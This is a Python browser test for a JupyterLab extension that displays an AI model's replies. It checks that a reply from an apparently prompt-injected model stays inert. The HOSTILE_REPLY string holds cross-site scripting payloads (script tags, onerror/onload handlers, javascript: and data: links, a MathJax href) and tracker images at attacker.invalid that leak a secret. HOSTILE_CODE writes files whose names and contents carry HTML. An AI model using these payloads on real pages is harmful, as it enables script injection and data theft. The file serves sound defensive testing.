"""A hostile reply in real JupyterLab: no script runs, no dialog opens, no request leaves, live and reopened.

The emulator's model writes what the prompt says, so the prompt plays a prompt-injected model: its reply
mixes raw HTML, script URLs, remote images, MathJax commands that reach the DOM and every Markdown construct
the old regex escaping misjudged (an escaped backtick, a code span across a blank line, a backtick in a
fence's info string, ``$…$`` around a backtick, an indented block); its code writes files whose names and
bytes are HTML. The page is watched for dialogs, for any request that is not to the Jupyter server, and
for the flag every payload would set; then the notebook is saved, closed and opened again without a kernel.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

import nbformat
import pytest
from playwright.sync_api import Dialog, Page, Request

from tests.browser.jupyter_server import JupyterServer
from tests.browser.lab import NotebookPage

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]

FLAG = "window.__oai_pwned"
SET_FLAG = "window.__oai_pwned=1"
HOSTILE_REPLY = f"""\
Here is your analysis. <script>{SET_FLAG};alert('script')</script>
<img src=x onerror="{SET_FLAG};alert('img')"> <svg onload="{SET_FLAG}"></svg>
<iframe src="javascript:parent.{SET_FLAG}"></iframe>
<style>body {{ background: url(https://attacker.invalid/css) }}</style>

\\`<img src=x onerror="{SET_FLAG};alert('escaped backtick')">`

`code span

<img src=x onerror="{SET_FLAG};alert('blank line')">`

$`$ <img src=x onerror="{SET_FLAG};alert('math')"> $`$

    <img src=x onerror="{SET_FLAG};alert('indented')">

~~~py`<img src=x onerror="{SET_FLAG}">
<script>{SET_FLAG}</script>
~~~

[click me](javascript:{SET_FLAG};alert('link'))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![tracker](https://attacker.invalid/leak.png?secret=1) ![proto](//attacker.invalid/p.png)
$\\href{{javascript:alert('mathjax')}}{{x}}$ and real math $x_1^2$.

The table: [the data](sandbox:/mnt/data/report.csv) and [odd](sandbox:/mnt/data/evil.csv).
"""
HOSTILE_CODE = """\
import pathlib
pathlib.Path('report.csv').write_text('a,b\\n1,<script>window.__oai_pwned=1</script>\\n')
pathlib.Path('<img src=x onerror=alert(7)>.csv').write_text('x\\n<img src=x onerror=alert(8)>\\n')
pathlib.Path('evil.csv').write_text('<svg onload=alert(9)>,b\\n1,2\\n')
pathlib.Path('page.html').write_text('<script>window.__oai_pwned=1</script>')
pathlib.Path('note.md').write_text('# <img src=x onerror=alert(10)>')
"""


def _hostile_notebook(folder: Path) -> Path:
    prompt = f"%%openai\nDo the analysis.\n\n```python\n{HOSTILE_CODE}```\n\n```reply\n{HOSTILE_REPLY}```\n"
    cells = [nbformat.v4.new_code_cell("%load_ext openai_artifacts_nb"), nbformat.v4.new_code_cell(prompt)]
    notebook = nbformat.v4.new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    path = folder / "hostile.ipynb"
    nbformat.write(notebook, path)
    return path


class Watch:
    """Dialogs and requests that leave the Jupyter server, from the moment it is attached to a page."""

    def __init__(self, page: Page, server: JupyterServer) -> None:
        self.host = urlsplit(server.base_url).netloc
        self.dialogs: list[str] = []
        self.foreign: list[str] = []
        page.on("dialog", self._on_dialog)
        page.on("request", self._on_request)

    def _on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _on_request(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in {"data", "blob"}:
            return
        if parts.netloc != self.host:
            self.foreign.append(request.url)


_LIVE_MARKUP_JS = """
(outputs) => {
  const found = [];
  for (const output of outputs) {
    for (const element of output.querySelectorAll('*')) {
      const tag = element.tagName.toLowerCase();
      const active = ['script', 'iframe', 'object', 'embed', 'svg', 'style', 'form', 'base', 'meta', 'link'];
      if (active.includes(tag)) {
        found.push(`<${tag}>`);
      }
      for (const attribute of element.attributes) {
        const value = attribute.value.trim().toLowerCase();
        if (attribute.name.startsWith('on')) found.push(`${tag} ${attribute.name}`);
        if (['href', 'src', 'action', 'formaction'].includes(attribute.name)
            && (value.startsWith('javascript:') || value.startsWith('data:text'))) {
          found.push(`${tag} ${attribute.name}=${value.slice(0, 40)}`);
        }
      }
    }
  }
  return found;
}
"""


def _check_page(lab: NotebookPage, watch: Watch) -> None:
    page = lab.page
    for image in lab.outputs.locator("img").all():  # let every image the page holds load (or fail)
        lab.wait_for_image_loaded(image)
    assert page.evaluate(f"typeof {FLAG}") == "undefined", "a payload ran"
    assert watch.dialogs == [], watch.dialogs
    assert watch.foreign == [], watch.foreign
    # The outputs' own content (not Lab's collapser and prompt, which carry Lab's SVG icons), as the DOM.
    live = lab.panel.locator(".jp-OutputArea-output").evaluate_all(_LIVE_MARKUP_JS)
    assert live == [], live
    hrefs = lab.output_hrefs()
    assert all(not href.lower().startswith(("javascript:", "data:text")) for href in hrefs), hrefs
    assert "Error displaying widget" not in lab.output_text()


def test_a_hostile_reply_stays_inert_live_and_after_reopening(
    jupyter_server: JupyterServer, page: Page, request: pytest.FixtureRequest, output_dir: Path
) -> None:
    folder = jupyter_server.root_dir / "hostile"
    folder.mkdir()
    _hostile_notebook(folder)
    request.addfinalizer(jupyter_server.shut_down_sessions)
    watch = Watch(page, jupyter_server)

    lab = NotebookPage(page)
    page.goto(jupyter_server.url("lab/tree/hostile/hostile.ipynb?reset", with_token=True))
    lab.wait_until_ready()
    lab.run_all()
    lab.wait_until_run()
    text = lab.output_text()
    assert "Here is your analysis." in text and "<script>" in text, "the payloads are shown as text"
    assert lab.outputs.locator("button.oai-artifact-download").count() >= 3
    assert "report.csv" in " ".join(lab.output_hrefs())
    _check_page(lab, watch)
    lab.screenshot(output_dir / "hostile_lab.png")

    lab.click_menu("File", "docmanager:save")
    page.wait_for_function(
        "() => !document.querySelector('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-mod-dirty')", polling=250
    )
    jupyter_server.shut_down_sessions()
    page.goto(jupyter_server.url("lab/tree/hostile/hostile.ipynb?reset", with_token=True))
    reopened = NotebookPage(page)
    reopened.panel.locator(".jp-OutputArea-output").first.wait_for(state="visible")
    _check_page(reopened, watch)
    assert reopened.outputs.locator("a.oai-artifact-link[download]").count() >= 3
    reopened.screenshot(output_dir / "hostile_lab_reopened.png")
